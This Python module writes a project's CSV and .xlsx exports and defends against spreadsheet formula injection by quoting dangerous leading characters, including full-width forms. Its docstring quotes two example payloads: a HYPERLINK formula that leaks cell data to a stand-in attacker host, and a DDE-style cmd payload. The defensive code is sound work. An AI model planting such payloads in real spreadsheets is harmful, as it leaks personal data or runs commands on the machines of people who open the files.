"""The one writer of every spreadsheet the project hands out (CSV and .xlsx).

A spreadsheet program treats a cell that begins with = + - @ (or a tab or a
carriage return, which it skips before looking for those) as a formula. A
person, buyer or product name is typed by users, so a name such as
`=HYPERLINK("http://evil.example/?leak="&A2)` or `@SUM(1+1)*cmd|' /C calc'!A0`
would run as soon as an office opens the export — next to the full ID
numbers of a west-office roster. Excel with a Chinese input method also takes
the full-width forms (＝ ＋ － ＠) as the start of a formula, so they count too.

Every export writes its cells through this module, which keeps values typed
(numbers, dates, booleans stay numbers, dates and booleans, so a negative
amount is still a number) and writes every piece of text as inert text:

- .xlsx: the workbook is opened with `strings_to_formulas`,
  `strings_to_urls` and `strings_to_numbers` off and text goes through
  `write_string`, so nothing a user typed becomes a formula, a link or a
  number. Dangerous text also gets Excel's quote prefix, so editing the cell
  in Excel later keeps it text.
- CSV: a file has no cell types, so dangerous text gets a leading `'`
  (the OWASP convention), which spreadsheet programs show as text.

Code outside this module never holds an xlsxwriter worksheet: `Book.sheet`
returns a `Sheet` that writes values only through `Sheet.cell`, `Sheet.row`
and `Sheet.stream`, and passes on nothing but layout calls. A test checks
that no other module imports a spreadsheet or CSV writer.

Whole ledgers go through `Sheet.stream`: xlsxwriter keeps every cell of a
sheet in memory until the workbook is closed (a 200,000-row export took
438 MB), and its per-cell calls cost more than the file itself. A streamed
sheet's rows are written straight as worksheet XML, row by row, to a
temporary file — each cell an inline string, a number or a date serial with
the style index xlsxwriter gave the cell's format, by the same rules as
`Sheet.cell` — and `Book.close` lets xlsxwriter write everything else (the
header rows, styles, drop-downs, comments, the other sheets) and then copies
that package into the output, putting the streamed rows into the sheet's
`<sheetData>` as they are read back. Memory stays constant whatever the
number of rows.
"""

import csv
import datetime
import io
import math
import re
import shutil
import tempfile
import zipfile
from decimal import Decimal

import xlsxwriter
from xlsxwriter.utility import _datetime_to_excel_datetime, xl_col_to_name, xl_rowcol_to_cell

# ASCII starters, the tab and carriage return spreadsheet programs skip, and
# the full-width forms an East Asian input method produces.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
MAX_ROW = 1_048_575

# Only these worksheet methods may be called through a Sheet: they shape the
# layout and never put a user's text into a cell.
LAYOUT = frozenset({"set_column", "set_row", "freeze_panes", "data_validation", "write_comment", "hide",
                    "set_landscape", "set_paper", "fit_to_pages", "autofilter", "set_first_sheet", "activate"})


def is_dangerous(text):
    """True when a spreadsheet program could read `text` as a formula."""
    return str(text).startswith(DANGEROUS)


def column_name(index):
    """The letters of a zero-based column index (0 → A)."""
    return xl_col_to_name(index)


# CSV


def csv_cell(value):
    """The text of one CSV cell: numbers and dates as they are, dangerous text
    behind a quote so that no spreadsheet program evaluates it."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else "否"
    if isinstance(value, (int, float, Decimal)):
        return str(value)
    if isinstance(value, (datetime.date, datetime.datetime)):
        return value.isoformat()
    text = str(value)
    return "'" + text if is_dangerous(text) else text


class CsvWriter:
    """csv.writer that passes every cell through `csv_cell`."""

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, values):
        self._writer.writerow([csv_cell(v) for v in values])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_text(header, rows):
    """The whole CSV as text, with a byte-order mark so that Excel reads the
    Chinese as UTF-8."""
    buf = io.StringIO()
    writer = CsvWriter(buf)
    writer.writerow(header)
    writer.writerows(rows)
    return "\ufeff" + buf.getvalue()


# .xlsx

# The deflate level of the package written around streamed rows: level 1
# costs a third of the default's time for a file about 15% bigger.
COMPRESS_LEVEL = 1
STREAM_BUFFER_ROWS = 2000


class Book:
    """An xlsxwriter workbook opened so that no string is ever interpreted.

    Styles are made with `style(**properties)`; the book remembers each
    style's properties so that it can derive the text, date and quoted
    variants of whatever style a caller chose for a cell.
    """

    OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False,
               "default_date_format": "yyyy-mm-dd"}

    def __init__(self, out, *, in_memory=False, text_format=False):
        """`out` is a path or a binary file object. With `text_format`, text
        cells carry Excel's text number format ("@") as well, so that what a
        user types over them later stays text (the ledger templates)."""
        self._out = out
        self._wb = xlsxwriter.Workbook(out, {**self.OPTIONS, "in_memory": in_memory})
        self._props = {}
        self._variants = {}
        self._text_format = text_format
        self._streams = []
        self.date = self.style(num_format="yyyy-mm-dd")

    def style(self, **properties):
        fmt = self._wb.add_format(properties)
        self._props[id(fmt)] = (fmt, dict(properties))
        return fmt

    def _variant(self, fmt, **extra):
        """`fmt` with `extra` properties added (None stands for no style)."""
        base = {} if fmt is None else self._props[id(fmt)][1]
        key = (id(fmt), tuple(sorted(extra.items())))
        if key not in self._variants:
            self._variants[key] = self.style(**{**base, **extra})
        return self._variants[key]

    def text_style(self, fmt, text):
        extra = {}
        if self._text_format:
            extra["num_format"] = "@"
        if is_dangerous(text):
            extra["quote_prefix"] = True
        return self._variant(fmt, **extra) if extra else fmt

    def date_style(self, fmt):
        if fmt is None:
            return self.date
        if "num_format" in self._props[id(fmt)][1]:
            return fmt
        return self._variant(fmt, num_format="yyyy-mm-dd")

    def _style_attributes(self, fmt, column_format=None):
        """The ` s="…"` attributes of a streamed column of style `fmt`: for
        text, quoted text, numbers and dates. A number without a style takes
        the column's format, as xlsxwriter gives it."""

        def attribute(style):
            # The index xlsxwriter gives a format when it first writes a cell
            # of it; asked here, before close, it is the index the styles
            # part will hold.
            index = 0 if style is None else style._get_xf_index()
            return f' s="{index}"' if index else ""

        return (attribute(self.text_style(fmt, "")), attribute(self.text_style(fmt, "=")),
                attribute(fmt if fmt is not None else column_format), attribute(self.date_style(fmt)))

    def sheet(self, name):
        return Sheet(self, self._wb.add_worksheet(name))

    def close(self):
        if not self._streams:
            self._wb.close()
            return
        # xlsxwriter writes the package without the streamed rows into a
        # temporary file; the output is that package with the rows put in.
        with tempfile.TemporaryFile() as shell:
            self._wb.filename = shell
            self._wb.close()
            shell.seek(0)
            parts = {f"xl/worksheets/sheet{stream.sheet._ws.index + 1}.xml": stream for stream in self._streams}
            with zipfile.ZipFile(shell) as zin, zipfile.ZipFile(self._out, "w", zipfile.ZIP_DEFLATED,
                                                                compresslevel=COMPRESS_LEVEL) as zout:
                for info in zin.infolist():
                    stream = parts.get(info.filename)
                    if stream is None:
                        zout.writestr(info.filename, zin.read(info))
                    else:
                        stream.put(zin.read(info), zout, info.filename)
        for stream in self._streams:
            stream.file.close()


class Sheet:
    """A worksheet that takes values only through `cell`, `row` and `stream`."""

    def __init__(self, book, worksheet):
        self._book = book
        self._ws = worksheet
        self._stream = None

    def cell(self, row, col, value, style=None):
        """Write one value typed: None and "" leave the cell empty; numbers,
        dates and booleans stay numbers, dates and booleans; anything else is
        written as inert text."""
        book, ws = self._book, self._ws
        if self._stream is not None and row >= self._stream.first_row:
            raise ValueError(f"row {row} is among the streamed rows of sheet {ws.name}")
        if value is None or value == "":
            if style is not None:
                ws.write_blank(row, col, None, style)
            return
        if isinstance(value, bool):
            ws.write_boolean(row, col, value, style)
        elif isinstance(value, (int, float, Decimal)) and math.isfinite(value):
            ws.write_number(row, col, float(value), style)
        elif isinstance(value, datetime.datetime):
            # Excel has no time zones: callers pass local times, and a zone
            # left on the value is dropped rather than refused.
            ws.write_datetime(row, col, value.replace(tzinfo=None), book.date_style(style))
        elif isinstance(value, datetime.date):
            ws.write_datetime(row, col, datetime.datetime.combine(value, datetime.time()), book.date_style(style))
        else:
            text = str(value)
            ws.write_string(row, col, text, book.text_style(style, text))

    def row(self, row, col, values, style=None):
        for offset, value in enumerate(values):
            self.cell(row, col + offset, value, style)

    def stream(self, rows, styles=(), first_row=None):
        """Write `rows` (each a sequence of values, from column A) one row
        after another from `first_row` (by default the row after the last
        cell written), in constant memory; return how many rows were written.

        Values are typed as `cell` types them; `styles[c]` is the style of
        column c (None or missing: no style). Rows are final once streamed:
        no cell may be written at or below `first_row` afterwards, and a
        sheet streams once."""
        if self._stream is not None:
            raise ValueError(f"sheet {self._ws.name} is already streamed")
        written = self._ws.dim_rowmax
        if first_row is None:
            first_row = 0 if written is None else written + 1
        if written is not None and first_row <= written:
            raise ValueError(f"streamed rows must start below row {written} of sheet {self._ws.name}")
        self._stream = _Stream(self, first_row, styles)
        self._book._streams.append(self._stream)
        return self._stream.write(rows)

    def __getattr__(self, name):
        if name in LAYOUT:
            return getattr(self._ws, name)
        raise AttributeError(
            f"Sheet writes values only through cell(), row() and stream(); {name} is not a layout call")


# Worksheet XML of streamed rows, by the rules of xlsxwriter's own writer:
# control characters become _xHHHH_ escapes (and a literal _xHHHH_ has its
# underscore escaped), & < > are entities, a leading or trailing space is
# kept with xml:space="preserve".
_NEEDS_ESCAPE = re.compile("[&<>\x00-\x08\x0b-\x1f\ufffe\uffff]|_x[0-9a-fA-F]{4}_")
_LITERAL_ESCAPE = re.compile("(_x[0-9a-fA-F]{4}_)")
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\ufffe\uffff]")
_SPACE = " \t\n\r"
_EXCEL_EPOCH = datetime.date(1899, 12, 30).toordinal()
_MARCH_1900 = datetime.date(1900, 3, 1)  # from here on a serial is the plain count of days
_DIMENSION = re.compile(rb'<dimension ref="[^"]*"/>')


def _xml_text(text):
    if _NEEDS_ESCAPE.search(text) is None:
        return text
    text = _LITERAL_ESCAPE.sub(r"_x005F\1", text)
    text = _CONTROL.sub(lambda m: f"_x{ord(m.group()):04X}_", text)
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _serial(value):
    """Excel's serial number of a naive datetime, by xlsxwriter's own
    conversion (the one `Sheet.cell` goes through): the rare cases only, a
    time of day or a date before March 1900 and Excel's phantom 29 February."""
    return _datetime_to_excel_datetime(value, False, True)


class _Stream:
    """The rows streamed into one worksheet: their XML in a temporary file,
    spliced into the sheet's part when the book is closed."""

    def __init__(self, sheet, first_row, styles):
        self.sheet = sheet
        self.first_row = first_row
        self.last_row = first_row - 1
        self.last_col = -1
        self._styles = list(styles)
        self.file = tempfile.TemporaryFile()
        self._letters, self._text, self._quoted, self._number, self._date, self._blank = [], [], [], [], [], []
        self._widen(len(self._styles))

    def _widen(self, width):
        book, columns = self.sheet._book, self.sheet._ws.col_info
        for c in range(len(self._letters), width):
            style = self._styles[c] if c < len(self._styles) else None
            column_format = columns[c].column_format if c in columns else None
            text, quoted, number, date = book._style_attributes(style, column_format)
            self._letters.append(column_name(c))
            self._text.append(text)
            self._quoted.append(quoted)
            self._number.append(number)
            self._date.append(date)
            # cell() writes a blank cell only when it has a style of its own.
            self._blank.append(None if style is None else number)

    def write(self, rows):
        """Write the rows' XML; return how many there were."""
        letters, text_s, quoted_s, number_s, date_s, blank_s = (self._letters, self._text, self._quoted, self._number,
                                                                self._date, self._blank)
        dangerous, escape, needs_escape, space = DANGEROUS, _xml_text, _NEEDS_ESCAPE.search, _SPACE
        str_, float_, int_, date_ = str, float, int, datetime.date
        epoch, march_1900 = _EXCEL_EPOCH, _MARCH_1900
        write = self.file.write
        r = self.first_row - 1
        last_col = self.last_col
        chunk = []
        add = chunk.append
        for values in rows:
            r += 1
            if len(values) > len(letters):
                self._widen(len(values))
            n = str_(r + 1)
            add(f'<row r="{n}">')
            c = -1
            for value in values:
                c += 1
                t = type(value)
                if t is str_:
                    if not value:
                        if blank_s[c] is not None:
                            add(f'<c r="{letters[c]}{n}"{blank_s[c]}/>')
                        continue
                    if needs_escape(value) is not None:
                        xml = escape(value)
                    else:
                        xml = value
                    s = quoted_s[c] if value.startswith(dangerous) else text_s[c]
                    if value[0] in space or value[-1] in space:
                        add(f'<c r="{letters[c]}{n}"{s} t="inlineStr"><is><t xml:space="preserve">{xml}</t></is></c>')
                    else:
                        add(f'<c r="{letters[c]}{n}"{s} t="inlineStr"><is><t>{xml}</t></is></c>')
                elif t is float_:
                    if value - value != 0.0:  # inf or nan: not a number Excel can hold
                        self._cell_slow(add, letters[c], n, c, value)
                    else:
                        add(f'<c r="{letters[c]}{n}"{number_s[c]}><v>{value!r}</v></c>')
                elif t is date_ and value >= march_1900:
                    add(f'<c r="{letters[c]}{n}"{date_s[c]}><v>{value.toordinal() - epoch}</v></c>')
                elif t is int_:
                    add(f'<c r="{letters[c]}{n}"{number_s[c]}><v>{value}</v></c>')
                elif value is None:
                    if blank_s[c] is not None:
                        add(f'<c r="{letters[c]}{n}"{blank_s[c]}/>')
                else:
                    self._cell_slow(add, letters[c], n, c, value)
            # The sheet's dimension spans the longest row given.
            if c > last_col:
                last_col = c
            add("</row>")
            if len(chunk) >= STREAM_BUFFER_ROWS * 4:
                write("".join(chunk).encode())
                chunk.clear()
        write("".join(chunk).encode())
        count = r - self.first_row + 1
        self.last_row = r
        self.last_col = last_col
        return count

    def _cell_slow(self, add, letter, n, c, value):
        """Everything but the common cases: booleans, Decimals, datetimes,
        dates before March 1900, other objects as text."""
        ref = f"{letter}{n}"
        if isinstance(value, bool):
            add(f'<c r="{ref}"{self._number[c]} t="b"><v>{int(value)}</v></c>')
            return
        if isinstance(value, (int, float, Decimal)) and math.isfinite(value):
            add(f'<c r="{ref}"{self._number[c]}><v>{float(value)!r}</v></c>')
            return
        if isinstance(value, datetime.datetime):
            add(f'<c r="{ref}"{self._date[c]}><v>{_serial(value.replace(tzinfo=None))!r}</v></c>')
            return
        if isinstance(value, datetime.date):
            serial = _serial(datetime.datetime.combine(value, datetime.time()))
            add(f'<c r="{ref}"{self._date[c]}><v>{serial!r}</v></c>')
            return
        text = str(value)
        if not text:
            if self._blank[c] is not None:
                add(f'<c r="{ref}"{self._blank[c]}/>')
            return
        s = self._quoted[c] if text.startswith(DANGEROUS) else self._text[c]
        preserve = ' xml:space="preserve"' if text[0] in _SPACE or text[-1] in _SPACE else ""
        add(f'<c r="{ref}"{s} t="inlineStr"><is><t{preserve}>{_xml_text(text)}</t></is></c>')

    def put(self, xml, zout, name):
        """Write the sheet's part `xml` (as xlsxwriter wrote it) into the zip
        `zout`, with the streamed rows inside its sheetData."""
        ws = self.sheet._ws
        if b"<sheetData/>" in xml:
            head, tail = xml.split(b"<sheetData/>", 1)
            head, tail = head + b"<sheetData>", b"</sheetData>" + tail
        else:
            at = xml.index(b"</sheetData>")
            head, tail = xml[:at], xml[at:]
        if self.last_row >= self.first_row:
            first_row = self.first_row if ws.dim_rowmin is None else min(ws.dim_rowmin, self.first_row)
            first_col = 0 if ws.dim_colmin is None else min(ws.dim_colmin, 0)
            last_col = max(self.last_col, 0 if ws.dim_colmax is None else ws.dim_colmax)
            ref = f"{xl_rowcol_to_cell(first_row, first_col)}:{xl_rowcol_to_cell(self.last_row, last_col)}"
            head = _DIMENSION.sub(f'<dimension ref="{ref}"/>'.encode(), head, count=1)
        size = self.file.seek(0, 2)
        self.file.seek(0)
        with zout.open(name, "w", force_zip64=size > 1 << 30) as fh:
            fh.write(head)
            shutil.copyfileobj(self.file, fh, 1 << 20)
            fh.write(tail)
